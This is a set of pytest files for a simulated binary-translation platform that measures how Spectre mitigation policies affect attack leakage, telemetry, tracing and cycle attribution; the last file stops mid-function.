    assert main(["attack", "v1", "--secret", "Z", "--jobs", "1"]) == 0
    serial = capsys.readouterr().out
    assert main(["attack", "v1", "--secret", "Z", "--jobs", "2"]) == 0
    assert capsys.readouterr().out == serial
    assert "LEAKED" in serial


def test_parser_requires_subcommand():
    with pytest.raises(SystemExit):
        build_parser().parse_args([])


def test_parser_knows_jobs_and_bench_host():
    parser = build_parser()
    sweep = parser.parse_args(["sweep", "--jobs", "4",
                               "--cache-dir", "/tmp/cache"])
    assert sweep.jobs == 4 and sweep.cache_dir == "/tmp/cache"
    attack = parser.parse_args(["attack", "v1", "--jobs", "2"])
    assert attack.jobs == 2
    bench = parser.parse_args(["bench-host", "--quick", "--skip-sweep"])
    assert bench.quick and bench.skip_sweep
    assert bench.out.endswith("BENCH_host.json")


# ---------------------------------------------------------------------------
# Observability flags and the stats subcommand.
# ---------------------------------------------------------------------------

def test_run_metrics_out_writes_valid_json(loop_file, tmp_path, capsys):
    metrics_path = tmp_path / "metrics.json"
    assert main(["run", loop_file, "--metrics-out", str(metrics_path)]) == 0
    doc = json.loads(metrics_path.read_text())
    assert set(doc) == {"counters", "gauges", "histograms"}
    assert doc["counters"]["core.blocks_executed_total"] > 0
    assert doc["gauges"]["run.exit_code"] == 0
    assert "wrote %s" % metrics_path in capsys.readouterr().out


def test_run_trace_out_writes_chrome_trace(loop_file, tmp_path):
    trace_path = tmp_path / "trace.json"
    assert main(["run", loop_file, "--trace-out", str(trace_path)]) == 0
    doc = json.loads(trace_path.read_text())
    names = {event["name"] for event in doc["traceEvents"]}
    assert {"translate", "schedule", "execute"} <= names
    assert all(event["ph"] in {"X", "i", "M"}
               for event in doc["traceEvents"])


def test_run_prom_out_writes_prometheus_text(loop_file, tmp_path):
    prom_path = tmp_path / "metrics.prom"
    assert main(["run", loop_file, "--prom-out", str(prom_path)]) == 0
    text = prom_path.read_text()
    assert "# TYPE repro_core_blocks_executed_total counter" in text


def test_stats_attack_v4_reports_rollback_cycles(capsys):
    assert main(["stats", "--attack", "v4", "--policy", "unsafe"]) == 0
    out = capsys.readouterr().out
    assert "rollback cyc" in out
    row = next(line for line in out.splitlines()
               if line.startswith("unsafe"))
    rollback_cycles = int(row.split()[5])
    assert rollback_cycles > 0


def test_stats_on_guest_file(loop_file, capsys):
    assert main(["stats", loop_file, "--policy", "ghostbusters"]) == 0
    out = capsys.readouterr().out
    assert "cycle attribution" in out
    assert "our approach" in out


def test_stats_requires_a_workload(capsys):
    assert main(["stats"]) == 2
    assert main(["stats", "foo.s", "--attack", "v1"]) == 2



def test_run_supervise_prints_supervisor_stats(loop_file, capsys):
    assert main(["run", loop_file, "--supervise"]) == 0
    out = capsys.readouterr().out
    assert "supervisor:" in out
    assert "installs verified" in out
    assert "detections" in out


def test_run_supervise_same_result_as_bare(loop_file, capsys):
    assert main(["run", loop_file]) == 0
    bare = capsys.readouterr().out
    assert main(["run", loop_file, "--supervise"]) == 0
    supervised = capsys.readouterr().out
    assert supervised.startswith(bare.rstrip("\n").split("supervisor")[0][:20])
    # exit code and cycles lines are identical
    assert [l for l in supervised.splitlines() if l.startswith(("exit", "cyc"))] \
        == [l for l in bare.splitlines() if l.startswith(("exit", "cyc"))]


def test_sweep_failure_exits_nonzero_with_table(monkeypatch, capsys):
    import repro.platform.parallel as parallel
    from repro.platform.parallel import ParallelRunError, PointFailure

    def boom(*args, **kwargs):
        raise ParallelRunError(
            "sweep: 1 of 8 points failed",
            [PointFailure(0, "atax/unsafe", "crash", "worker died", 3)],
            [None] * 8)

    monkeypatch.setattr(parallel, "sweep_comparisons", boom)
    assert main(["sweep", "--jobs", "2"]) == 1
    err = capsys.readouterr().err
    assert "atax/unsafe" in err
    assert "crash" in err


def test_chaos_exit_codes(monkeypatch, capsys):
    import repro.resilience.chaos as chaos
    from repro.resilience.chaos import ChaosOutcome
    from repro.resilience.faults import FaultSite

    good = ChaosOutcome(FaultSite.TCACHE_CORRUPT, "kernel:atax",
                        True, True, True, True)
    bad = ChaosOutcome(FaultSite.WORKER_HANG, "sweep:atax",
                       True, False, True, True, detail="missed")

    monkeypatch.setattr(chaos, "run_chaos_matrix", lambda **kw: [good])
    assert main(["chaos", "--seed", "3"]) == 0
    assert "all 1 chaos cells ok (seed 3)" in capsys.readouterr().out

    monkeypatch.setattr(chaos, "run_chaos_matrix", lambda **kw: [good, bad])
    assert main(["chaos"]) == 1
    captured = capsys.readouterr()
    assert "FAIL" in captured.out
    assert "missed" in captured.out
    assert "1 of 2 chaos cells FAILED" in captured.err


def test_parser_knows_resilience_flags():
    parser = build_parser()
    args = parser.parse_args(["sweep", "--timeout", "5", "--retries", "1",
                              "--resume", "ckpt.jsonl", "--jobs", "4"])
    assert args.timeout == 5.0 and args.retries == 1
    assert args.resume == "ckpt.jsonl"
    args = parser.parse_args(["attack", "v1", "--timeout", "9"])
    assert args.timeout == 9.0 and args.retries == 2
    args = parser.parse_args(["chaos", "--seed", "5", "--hang-timeout", "3"])
    assert args.seed == 5 and args.hang_timeout == 3.0
    assert args.kernel == "atax" and args.jobs == 2
