"""CLI tests (argument handling and each subcommand end-to-end)."""

import json

import pytest

from repro.cli import build_parser, main

PROGRAM = """
_start:
    li a0, 7
    li a7, 93
    ecall
"""

LOOP_PROGRAM = """
_start:
    li t0, 0
    li t1, 40
head:
    addi t0, t0, 1
    blt t0, t1, head
    li a0, 0
    li a7, 93
    ecall
"""


@pytest.fixture
def asm_file(tmp_path):
    path = tmp_path / "prog.s"
    path.write_text(PROGRAM)
    return str(path)


@pytest.fixture
def loop_file(tmp_path):
    path = tmp_path / "loop.s"
    path.write_text(LOOP_PROGRAM)
    return str(path)


def test_run_platform(asm_file, capsys):
    assert main(["run", asm_file]) == 0
    out = capsys.readouterr().out
    assert "exit code : 7" in out
    assert "cycles" in out


def test_run_interpreter(asm_file, capsys):
    assert main(["run", asm_file, "--interp"]) == 0
    out = capsys.readouterr().out
    assert "exit code : 7" in out
    assert "instret" in out


def test_run_with_stats_and_policy(asm_file, capsys):
    assert main(["run", asm_file, "--stats", "--policy", "ghostbusters"]) == 0
    out = capsys.readouterr().out
    assert "DBT" in out


def test_run_wide_machine(loop_file, capsys):
    assert main(["run", loop_file, "--wide", "8"]) == 0
    assert "exit code : 0" in capsys.readouterr().out


def test_bad_policy_rejected(asm_file):
    with pytest.raises(SystemExit):
        main(["run", asm_file, "--policy", "yolo"])


def test_dis(asm_file, capsys):
    assert main(["dis", asm_file]) == 0
    out = capsys.readouterr().out
    assert "_start:" in out
    assert "ecall" in out


def test_trace_shows_optimized_blocks(loop_file, capsys):
    assert main(["trace", loop_file]) == 0
    out = capsys.readouterr().out
    assert "optimized" in out
    assert "jump" in out


def test_trace_all_includes_firstpass(asm_file, capsys):
    assert main(["trace", asm_file, "--all"]) == 0
    assert "firstpass" in capsys.readouterr().out


def test_attack_subcommand_single_policy(capsys):
    # Short secret; GhostBusters blocks -> returns 0 (explicit policy).
    assert main(["attack", "v1", "--secret", "Z",
                 "--policy", "ghostbusters"]) == 0
    out = capsys.readouterr().out
    assert "blocked" in out


def test_attack_jobs_output_matches_serial(capsys):
    # All four policies, so --jobs 2 really goes through the pool.
    assert main(["attack", "v1", "--secret", "Z", "--jobs", "1"]) == 0
    serial = capsys.readouterr().out
    assert main(["attack", "v1", "--secret", "Z", "--jobs", "2"]) == 0
    assert capsys.readouterr().out == serial
    assert "LEAKED" in serial


def test_parser_requires_subcommand():
    with pytest.raises(SystemExit):
        build_parser().parse_args([])


def test_parser_knows_jobs_and_bench_host():
    parser = build_parser()
    sweep = parser.parse_args(["sweep", "--jobs", "4",
                               "--cache-dir", "/tmp/cache"])
    assert sweep.jobs == 4 and sweep.cache_dir == "/tmp/cache"
    attack = parser.parse_args(["attack", "v1", "--jobs", "2"])
    assert attack.jobs == 2
    bench = parser.parse_args(["bench-host", "--quick", "--skip-sweep"])
    assert bench.quick and bench.skip_sweep
    assert bench.out.endswith("BENCH_host.json")


# ---------------------------------------------------------------------------
# Observability flags and the stats subcommand.
# ---------------------------------------------------------------------------

def test_run_metrics_out_writes_valid_json(loop_file, tmp_path, capsys):
    metrics_path = tmp_path / "metrics.json"
    assert main(["run", loop_file, "--metrics-out", str(metrics_path)]) == 0
    doc = json.loads(metrics_path.read_text())
    assert set(doc) == {"counters", "gauges", "histograms"}
    assert doc["counters"]["core.blocks_executed_total"] > 0
    assert doc["gauges"]["run.exit_code"] == 0
    assert "wrote %s" % metrics_path in capsys.readouterr().out


def test_run_trace_out_writes_chrome_trace(loop_file, tmp_path):
    trace_path = tmp_path / "trace.json"
    assert main(["run", loop_file, "--trace-out", str(trace_path)]) == 0
    doc = json.loads(trace_path.read_text())
    names = {event["name"] for event in doc["traceEvents"]}
    assert {"translate", "schedule", "execute"} <= names
    assert all(event["ph"] in {"X", "i", "M"}
               for event in doc["traceEvents"])


def test_run_prom_out_writes_prometheus_text(loop_file, tmp_path):
    prom_path = tmp_path / "metrics.prom"
    assert main(["run", loop_file, "--prom-out", str(prom_path)]) == 0
    text = prom_path.read_text()
    assert "# TYPE repro_core_blocks_executed_total counter" in text


def test_stats_attack_v4_reports_rollback_cycles(capsys):
    assert main(["stats", "--attack", "v4", "--policy", "unsafe"]) == 0
    out = capsys.readouterr().out
    assert "rollback cyc" in out
    row = next(line for line in out.splitlines()
               if line.startswith("unsafe"))
    rollback_cycles = int(row.split()[5])
    assert rollback_cycles > 0


def test_stats_on_guest_file(loop_file, capsys):
    assert main(["stats", loop_file, "--policy", "ghostbusters"]) == 0
    out = capsys.readouterr().out
    assert "cycle attribution" in out
    assert "our approach" in out


def test_stats_requires_a_workload(capsys):
    assert main(["stats"]) == 2
    assert main(["stats", "foo.s", "--attack", "v1"]) == 2

