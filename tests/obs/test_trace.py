"""Tracer: clock monotonicity, bounding, Chrome-trace schema round-trip."""

import json

import pytest

from repro.obs import TICKS_PER_CYCLE, TRACK_CORE, TRACK_ENGINE, Tracer

#: Phases a Trace Event Format consumer accepts from us.
_VALID_PHASES = {"X", "i", "M"}


def test_tick_is_monotonic_within_a_cycle():
    tracer = Tracer()
    first = tracer.tick(5)
    second = tracer.tick(5)
    third = tracer.tick(6)
    assert first == 5 * TICKS_PER_CYCLE
    assert second == first + 1
    assert third == 6 * TICKS_PER_CYCLE


def test_span_validation_and_cycle_spans():
    tracer = Tracer()
    tracer.add_cycle_span("execute", TRACK_CORE, 10, 25)
    span = tracer.spans[0]
    assert (span.start, span.end) == (10 * TICKS_PER_CYCLE,
                                      25 * TICKS_PER_CYCLE)
    with pytest.raises(ValueError):
        tracer.add_span("bad", TRACK_CORE, 10, 5)


def test_limit_truncates_instead_of_growing():
    tracer = Tracer(limit=3)
    for index in range(5):
        tracer.add_instant("e%d" % index, TRACK_CORE, index)
    assert len(tracer.instants) == 3
    assert tracer.dropped == 2
    tracer.add_span("s", TRACK_CORE, 0, 1)
    assert tracer.dropped == 3
    assert not tracer.spans


def test_chrome_trace_schema_round_trip():
    tracer = Tracer()
    start = tracer.tick(0)
    tracer.add_span("translate", TRACK_ENGINE, start, tracer.tick(0),
                    category="dbt", args={"entry": "0x1000"})
    tracer.add_cycle_span("execute", TRACK_CORE, 0, 7,
                          args={"kind": "firstpass"})
    tracer.add_instant("spectre_pattern_detected", "events",
                       tracer.tick(7), args={"entry": "0x1000"})

    doc = json.loads(tracer.to_json(indent=2))
    events = doc["traceEvents"]
    assert doc["otherData"]["ticks_per_cycle"] == TICKS_PER_CYCLE
    assert doc["otherData"]["dropped_records"] == 0

    names = set()
    for event in events:
        assert event["ph"] in _VALID_PHASES
        assert isinstance(event["pid"], int)
        assert isinstance(event["tid"], int)
        if event["ph"] == "X":
            assert event["dur"] >= 0
            assert isinstance(event["ts"], int)
        if event["ph"] == "i":
            assert event["s"] == "t"
        names.add(event["name"])
    assert {"translate", "execute", "spectre_pattern_detected"} <= names
    # Track metadata present for both used tracks.
    thread_names = {e["args"]["name"] for e in events
                    if e["name"] == "thread_name"}
    assert {TRACK_ENGINE, TRACK_CORE} <= thread_names


def test_thread_ids_are_stable_across_interleavings():
    first = Tracer()
    first.add_instant("a", TRACK_CORE, 0)
    first.add_instant("b", TRACK_ENGINE, 1)
    second = Tracer()
    second.add_instant("b", TRACK_ENGINE, 0)
    second.add_instant("a", TRACK_CORE, 1)

    def tid_of(doc, track):
        return next(e["tid"] for e in doc["traceEvents"]
                    if e["name"] == "thread_name"
                    and e["args"]["name"] == track)

    doc1, doc2 = first.to_chrome(), second.to_chrome()
    assert tid_of(doc1, TRACK_CORE) == tid_of(doc2, TRACK_CORE)
    assert tid_of(doc1, TRACK_ENGINE) == tid_of(doc2, TRACK_ENGINE)


def test_write_produces_loadable_file(tmp_path):
    tracer = Tracer()
    tracer.add_cycle_span("execute", TRACK_CORE, 0, 1)
    path = tmp_path / "trace.json"
    tracer.write(str(path))
    doc = json.loads(path.read_text())
    assert any(e["name"] == "execute" for e in doc["traceEvents"])
