"""Cross-process telemetry pipeline: envelopes, spool tolerance, the
merger, and the jobs=1 vs jobs=N equivalence contract."""

import json

import pytest

from repro.kernels import SMALL_SIZES, build_kernel_program
from repro.obs import (
    MetricError,
    Observer,
    TelemetryConfig,
    TelemetrySpool,
    Tracer,
    capture_envelope,
    merge_envelopes,
    merge_spool,
    spool_envelope,
    worker_observer,
)
from repro.obs.pipeline import ENVELOPE_VERSION
from repro.platform.parallel import sweep_comparisons
from repro.platform.system import DbtSystem
from repro.security.policy import ALL_POLICIES, MitigationPolicy

POLICIES = (MitigationPolicy.UNSAFE, MitigationPolicy.GHOSTBUSTERS)


@pytest.fixture(scope="module")
def workloads():
    return [(name, build_kernel_program(SMALL_SIZES[name]()))
            for name in ("atax", "gemm")]


# ---------------------------------------------------------------------------
# Envelopes and the spool.
# ---------------------------------------------------------------------------

def test_envelope_round_trip(tmp_path, workloads):
    observer = Observer(tracer=Tracer())
    DbtSystem(workloads[0][1], policy=MitigationPolicy.UNSAFE,
              observer=observer).run()
    telemetry = TelemetryConfig(spool_dir=str(tmp_path), trace=True,
                                label="atax/unsafe",
                                meta={"workload": "atax"})
    spool_envelope(telemetry, observer, policy="unsafe")
    envelopes = TelemetrySpool(tmp_path).read()
    assert len(envelopes) == 1
    envelope = envelopes[0]
    assert envelope["version"] == ENVELOPE_VERSION
    assert envelope["label"] == "atax/unsafe"
    assert envelope["meta"] == {"workload": "atax", "policy": "unsafe"}
    assert envelope["metrics"] == observer.registry.to_dict()
    assert len(envelope["trace"]["spans"]) == len(observer.tracer.spans)
    assert envelope["trace"]["last_tick"] == observer.tracer.last_tick


def test_spool_envelope_is_noop_without_config_or_observer(tmp_path):
    telemetry = TelemetryConfig(spool_dir=str(tmp_path))
    spool_envelope(None, Observer())
    spool_envelope(telemetry, None)
    assert not list(tmp_path.iterdir())


def test_spool_skips_torn_and_invalid_lines(tmp_path, workloads):
    observer = Observer()
    DbtSystem(workloads[0][1], policy=MitigationPolicy.UNSAFE,
              observer=observer).run()
    telemetry = TelemetryConfig(spool_dir=str(tmp_path), label="ok")
    spool_envelope(telemetry, observer)
    spool_file = next(tmp_path.glob("telemetry-*.jsonl"))
    with open(spool_file, "a") as handle:
        handle.write(json.dumps({"version": 999, "pid": 1,
                                 "metrics": {}}) + "\n")
        handle.write('{"torn": "mid-wri')  # killed worker tail
    spool = TelemetrySpool(tmp_path)
    envelopes = spool.read()
    assert [e["label"] for e in envelopes] == ["ok"]
    assert spool.skipped == 2
    merged = merge_envelopes(envelopes, skipped=spool.skipped)
    assert merged.registry.value("pipeline.skipped_lines") == 2


def test_with_point_merges_meta_without_mutating_template():
    template = TelemetryConfig(spool_dir="/nowhere", meta={"run": "x"})
    point = template.with_point("a/b", policy="fence")
    assert point.label == "a/b"
    assert point.meta == {"run": "x", "policy": "fence"}
    assert template.label == "" and template.meta == {"run": "x"}


# ---------------------------------------------------------------------------
# The merger.
# ---------------------------------------------------------------------------

def _envelope(pid, counters=None, gauges=None, histograms=None, trace=None):
    envelope = {
        "version": ENVELOPE_VERSION, "pid": pid, "label": "p%d" % pid,
        "meta": {},
        "metrics": {"counters": counters or {}, "gauges": gauges or {},
                    "histograms": histograms or {}},
    }
    if trace is not None:
        envelope["trace"] = trace
    return envelope


def test_merge_sums_counters_gauges_and_histograms():
    merged = merge_envelopes([
        _envelope(1, counters={"c": 2}, gauges={"g": 10},
                  histograms={"h": {"buckets": [1, 5], "counts": [1, 0, 2],
                                    "sum": 21, "count": 3}}),
        _envelope(2, counters={"c": 3}, gauges={"g": 5},
                  histograms={"h": {"buckets": [1, 5], "counts": [0, 4, 0],
                                    "sum": 8, "count": 4}}),
    ])
    assert merged.registry.value("c") == 5
    assert merged.registry.value("g") == 15
    histogram = merged.registry.get("h")
    assert histogram.counts == [1, 4, 2]
    assert histogram.sum == 29 and histogram.count == 7
    assert merged.workers == [1, 2]
    assert merged.registry.value("pipeline.envelopes") == 2
    assert merged.registry.value("pipeline.workers") == 2


def test_merge_rejects_mismatched_histogram_bounds():
    envelopes = [
        _envelope(1, histograms={"h": {"buckets": [1, 5], "counts": [0, 0, 0],
                                       "sum": 0, "count": 0}}),
        _envelope(2, histograms={"h": {"buckets": [1, 9], "counts": [0, 0, 0],
                                       "sum": 0, "count": 0}}),
    ]
    with pytest.raises(MetricError):
        merge_envelopes(envelopes)


def test_chrome_merge_one_process_per_worker():
    from repro.obs import TICKS_PER_CYCLE

    extent = 2 * TICKS_PER_CYCLE
    trace = {"spans": [["run", "core", 0, extent, "core", {}]],
             "instants": [["hit", "mem", 50, "mem", {}]],
             "dropped": 0, "last_tick": extent}
    merged = merge_envelopes([
        _envelope(11, trace=dict(trace)),
        _envelope(11, trace=dict(trace)),
        _envelope(22, trace=dict(trace)),
    ])
    doc = merged.to_chrome()
    names = {e["args"]["name"] for e in doc["traceEvents"]
             if e["name"] == "process_name"}
    assert names == {"worker-1 (pid 11)", "worker-2 (pid 22)"}
    # pid 11's second envelope is offset past the first one's extent.
    spans_11 = [e for e in doc["traceEvents"]
                if e.get("pid") == 11 and e["name"] == "run"]
    assert sorted(e["ts"] for e in spans_11) == [0, extent]
    points = [e for e in doc["traceEvents"] if e.get("cat") == "pipeline"]
    assert len(points) == 3
    assert doc["otherData"]["workers"] == 2


# ---------------------------------------------------------------------------
# End-to-end equivalence: the acceptance contract.
# ---------------------------------------------------------------------------

def test_jobs_equivalence_merged_counters(tmp_path, workloads):
    """Cold-cache jobs=1 and jobs=4 runs of the same grid merge to the
    same counter/gauge/histogram totals; only pipeline.workers and the
    per-envelope pids differ."""
    def _merged(jobs, subdir):
        spool_dir = tmp_path / subdir
        telemetry = TelemetryConfig(spool_dir=str(spool_dir), trace=True)
        # adaptive=False: this grid is small enough that the runner's
        # warm-start cost model would keep it in-process, but the point
        # here is the multi-worker spool merge — force a real pool.
        sweep_comparisons(workloads, policies=ALL_POLICIES, jobs=jobs,
                          point_telemetry=telemetry, adaptive=False)
        return merge_spool(spool_dir)

    serial = _merged(1, "serial")
    parallel = _merged(4, "parallel")
    expected_points = len(workloads) * len(ALL_POLICIES)
    assert len(serial.envelopes) == len(parallel.envelopes) == expected_points

    serial_doc = serial.registry.to_dict()
    parallel_doc = parallel.registry.to_dict()
    assert serial_doc["counters"] == parallel_doc["counters"]
    assert serial_doc["histograms"] == parallel_doc["histograms"]
    gauges_s = dict(serial_doc["gauges"])
    gauges_p = dict(parallel_doc["gauges"])
    assert gauges_s.pop("pipeline.workers") == 1
    assert gauges_p.pop("pipeline.workers") >= 2
    assert gauges_s.keys() == gauges_p.keys()
    for name, value in gauges_s.items():
        # Float gauges (run.ipc) sum in spool order, which differs
        # across job levels — equal up to summation order only.
        assert value == pytest.approx(gauges_p[name]), name

    # One Chrome process track per worker, both levels.
    assert len(serial.workers) == 1
    assert len(parallel.workers) >= 2
    doc = parallel.to_chrome()
    process_pids = {e["pid"] for e in doc["traceEvents"]
                    if e["name"] == "process_name"}
    assert process_pids == set(parallel.workers)


def test_memo_cache_hits_spool_nothing(tmp_path, workloads):
    cache_dir = tmp_path / "cache"
    spool_dir = tmp_path / "spool"
    telemetry = TelemetryConfig(spool_dir=str(spool_dir))
    sweep_comparisons(workloads, policies=POLICIES, cache_dir=cache_dir,
                      point_telemetry=telemetry)
    first = len(merge_spool(spool_dir).envelopes)
    assert first == len(workloads) * len(POLICIES)
    sweep_comparisons(workloads, policies=POLICIES, cache_dir=cache_dir,
                      point_telemetry=telemetry)
    assert len(merge_spool(spool_dir).envelopes) == first  # all hits
