"""Chained dispatch in the trace: one chain-level span per walk, so
``--trace-out`` timelines are no longer blind to chained runs."""

from repro.dbt.engine import DbtEngineConfig
from repro.kernels import SMALL_SIZES, build_kernel_program
from repro.obs import TRACK_CHAIN, Observer, Tracer
from repro.platform.system import DbtSystem
from repro.security.policy import MitigationPolicy


def _run_chained(observer):
    program = build_kernel_program(SMALL_SIZES["atax"]())
    return DbtSystem(program, policy=MitigationPolicy.UNSAFE,
                     engine_config=DbtEngineConfig(chain=True),
                     observer=observer).run()


def test_chain_walks_emit_chain_level_spans():
    observer = Observer(tracer=Tracer())
    result = _run_chained(observer)

    spans = [s for s in observer.tracer.spans if s.track == TRACK_CHAIN]
    assert spans, "chained run produced no chain-level spans"
    walks = observer.registry.value("dbt.chain.walks_total")
    assert len(spans) == walks
    # Block counts on the spans account for every chained dispatch.
    assert sum(s.args["blocks"] for s in spans) == result.chain.dispatches
    assert observer.registry.value("dbt.chain.blocks_total") \
        == result.chain.dispatches
    reasons = {s.args["break"] for s in spans}
    assert reasons <= {"miss", "hot", "rollback", "syscall", "exit",
                       "redirect", "loop"}
    for span in spans:
        assert span.end >= span.start


def test_chain_spans_visible_in_chrome_export():
    observer = Observer(tracer=Tracer())
    _run_chained(observer)
    doc = observer.tracer.to_chrome()
    chain_tids = {e["tid"] for e in doc["traceEvents"]
                  if e.get("ph") == "M" and e["name"] == "thread_name"
                  and e["args"]["name"] == TRACK_CHAIN}
    assert len(chain_tids) == 1
    chain_events = [e for e in doc["traceEvents"]
                    if e.get("tid") in chain_tids and e.get("ph") == "X"]
    assert chain_events
    assert all("blocks" in e["args"] and "break" in e["args"]
               for e in chain_events)


def test_break_reason_counters_sum_to_walks():
    observer = Observer()
    _run_chained(observer)
    registry = observer.registry
    walks = registry.value("dbt.chain.walks_total")
    reason_total = sum(
        metric.value for metric in registry
        if metric.name.startswith("dbt.chain.breaks."))
    assert walks > 0 and reason_total == walks
