"""Event-bus semantics: subscription, dispatch order, enable/disable."""

import pytest

from repro.obs import Event, EventBus, Observer


def test_bus_inactive_without_subscribers():
    bus = EventBus()
    assert not bus.active
    bus.emit(Event("x", 0))  # no subscribers: counted, not dispatched
    assert bus.published == {"x": 1}


def test_named_and_wildcard_dispatch_order():
    bus = EventBus()
    seen = []
    bus.subscribe(lambda e: seen.append(("named", e.name)), name="a")
    bus.subscribe(lambda e: seen.append(("wild", e.name)))
    bus.emit_named("a", 5, value=1)
    bus.emit_named("b", 6)
    # Named handlers run before wildcard handlers; "b" only hits wildcard.
    assert seen == [("named", "a"), ("wild", "a"), ("wild", "b")]


def test_unsubscribe():
    bus = EventBus()
    seen = []
    unsubscribe = bus.subscribe(seen.append, name="a")
    bus.emit_named("a", 0)
    unsubscribe()
    assert not bus.active
    bus.emit_named("a", 1)
    assert len(seen) == 1
    unsubscribe()  # idempotent


def test_event_attrs_are_carried():
    bus = EventBus()
    captured = []
    bus.subscribe(captured.append)
    bus.emit_named("rollback", 42, entry=0x1000, wasted=17)
    event = captured[0]
    assert event.cycle == 42
    assert event.attrs["entry"] == 0x1000
    assert event.attrs["wasted"] == 17


def test_handler_errors_propagate():
    bus = EventBus()

    def boom(event):
        raise RuntimeError("handler failed")

    bus.subscribe(boom, name="x")
    with pytest.raises(RuntimeError):
        bus.emit_named("x", 0)


def test_observer_emit_gates_bus_on_activity():
    observer = Observer()
    # Without subscribers the bus never sees Event objects, but the
    # registry still counts.
    observer.emit("hot_block", entry=4)
    assert observer.bus.published == {}
    assert observer.registry.value("events.hot_block") == 1

    seen = []
    observer.bus.subscribe(seen.append)
    observer.emit("hot_block", entry=8)
    assert [e.name for e in seen] == ["hot_block"]
    assert observer.registry.value("events.hot_block") == 2
