"""Observer wired through the whole platform: spans, events, attribution,
and the no-Heisenberg regression (observability must not move a cycle)."""

import pytest

from repro.attacks.harness import AttackVariant, build_attack_program
from repro.kernels import SMALL_SIZES, build_kernel_program
from repro.obs import Observer, Tracer
from repro.obs.attribution import attribute_policies, attribution_table
from repro.platform.system import DbtSystem
from repro.security.policy import MitigationPolicy


def _run(program, policy, observer=None):
    return DbtSystem(program, policy=policy, observer=observer).run()


# ---------------------------------------------------------------------------
# Tracing a Spectre run.
# ---------------------------------------------------------------------------

@pytest.fixture(scope="module")
def traced_v1_ghostbusters():
    observer = Observer(tracer=Tracer())
    program = build_attack_program(AttackVariant.SPECTRE_V1)
    result = _run(program, MitigationPolicy.GHOSTBUSTERS, observer)
    return observer, result


def test_phase_spans_cover_the_dbt_pipeline(traced_v1_ghostbusters):
    observer, _ = traced_v1_ghostbusters
    span_names = {span.name for span in observer.tracer.spans}
    assert {"translate", "optimize", "superblock", "irbuild",
            "poison_analysis", "mitigation", "regalloc", "schedule",
            "execute"} <= span_names


def test_spectre_pattern_event_emitted(traced_v1_ghostbusters):
    observer, _ = traced_v1_ghostbusters
    instants = [i for i in observer.tracer.instants
                if i.name == "spectre_pattern_detected"]
    assert instants, "GHOSTBUSTERS must flag the v1 pattern"
    assert all(i.args["entry"].startswith("0x") for i in instants)
    assert observer.registry.value("events.spectre_pattern_detected") >= 1


def test_execute_spans_tile_the_cycle_timeline(traced_v1_ghostbusters):
    observer, result = traced_v1_ghostbusters
    execs = [s for s in observer.tracer.spans if s.name == "execute"]
    assert execs
    # Spans are ordered, non-overlapping, and end at the final cycle.
    for before, after in zip(execs, execs[1:]):
        assert before.end <= after.start
    from repro.obs import TICKS_PER_CYCLE
    assert execs[-1].end <= result.cycles * TICKS_PER_CYCLE


def test_snapshot_gauges_match_run_result(traced_v1_ghostbusters):
    observer, result = traced_v1_ghostbusters
    registry = observer.registry
    assert registry.value("run.cycles") == result.cycles
    assert registry.value("core.stall_cycles") == result.core.stall_cycles
    assert registry.value("cache.misses") == result.cache.misses
    assert (registry.value("dbt.spectre_patterns_detected")
            == result.engine.spectre_patterns_detected)
    # Event-driven counters agree with the platform's own statistics.
    assert registry.value("core.blocks_executed_total") == result.blocks_executed
    assert (registry.value("mem.load_misses_total")
            <= registry.value("mem.loads_total"))


def test_bus_subscribers_see_platform_events():
    observer = Observer()
    rollbacks = []
    observer.bus.subscribe(rollbacks.append, name="mcb_rollback")
    program = build_attack_program(AttackVariant.SPECTRE_V4)
    result = _run(program, MitigationPolicy.UNSAFE, observer)
    assert result.rollbacks > 0
    assert len(rollbacks) == result.rollbacks
    assert all(e.attrs["wasted_cycles"] > 0 for e in rollbacks)


# ---------------------------------------------------------------------------
# Attribution (the `repro stats` backend).
# ---------------------------------------------------------------------------

def test_v4_unsafe_attributes_nonzero_rollback_cycles():
    program = build_attack_program(AttackVariant.SPECTRE_V4)
    rows = attribute_policies(program, (MitigationPolicy.UNSAFE,
                                        MitigationPolicy.NO_SPECULATION))
    unsafe, no_spec = rows
    assert unsafe.rollbacks > 0
    assert unsafe.rollback_cycles > 0
    assert no_spec.rollbacks == 0 and no_spec.rollback_cycles == 0
    table = attribution_table(rows)
    assert "unsafe" in table and "rollback cyc" in table


# ---------------------------------------------------------------------------
# No-Heisenberg regression: attaching the full observer stack must not
# change a single architectural or timing outcome.
# ---------------------------------------------------------------------------

@pytest.mark.parametrize("kernel_name", ["gemm", "jacobi-1d"])
def test_polybench_cycles_identical_with_observer(kernel_name):
    program = build_kernel_program(SMALL_SIZES[kernel_name]())
    for policy in (MitigationPolicy.UNSAFE, MitigationPolicy.GHOSTBUSTERS):
        plain = _run(program, policy)
        observed = _run(program, policy,
                        Observer(tracer=Tracer(limit=1000)))
        assert observed.cycles == plain.cycles
        assert observed.instructions == plain.instructions
        assert observed.output == plain.output
        assert observed.exit_code == plain.exit_code
        assert observed.blocks_executed == plain.blocks_executed


def test_attack_outcome_identical_with_observer():
    program = build_attack_program(AttackVariant.SPECTRE_V4)
    plain = _run(program, MitigationPolicy.UNSAFE)
    observed = _run(program, MitigationPolicy.UNSAFE, Observer(tracer=Tracer()))
    assert observed.cycles == plain.cycles
    assert observed.output == plain.output
    assert observed.rollbacks == plain.rollbacks
