"""Host profiler: no-Heisenberg gate, tier attribution, detach,
and the compile-cost amortization verdicts."""

import pytest

from repro.attacks.harness import AttackVariant, build_attack_program
from repro.dbt.engine import DbtEngineConfig
from repro.kernels import SMALL_SIZES, build_kernel_program
from repro.obs import (
    HostProfiler,
    amortization_report,
    format_amortization,
    format_profile,
    profile_run,
)
from repro.obs.profiler import (
    PHASE_CHAIN,
    PHASE_CODEGEN,
    PHASE_COMPILED,
    PHASE_FAST,
    PHASE_REFERENCE,
    PHASE_SCHEDULING,
    PHASE_TCACHE,
    PHASE_TRANSLATION,
)
from repro.platform.system import DbtSystem
from repro.security.policy import MitigationPolicy


@pytest.fixture(scope="module")
def gemm():
    return build_kernel_program(SMALL_SIZES["gemm"]())


def _fingerprint(result):
    return (result.exit_code, result.output, result.cycles,
            result.instructions, result.blocks_executed, result.rollbacks)


# ---------------------------------------------------------------------------
# No-Heisenberg: the profiler never changes a simulated observable.
# ---------------------------------------------------------------------------

@pytest.mark.parametrize("interpreter", ["reference", "fast", "compiled"])
@pytest.mark.parametrize("chain", [False, True])
def test_profiled_run_bit_identical(gemm, interpreter, chain):
    engine_config = DbtEngineConfig(chain=True) if chain else None
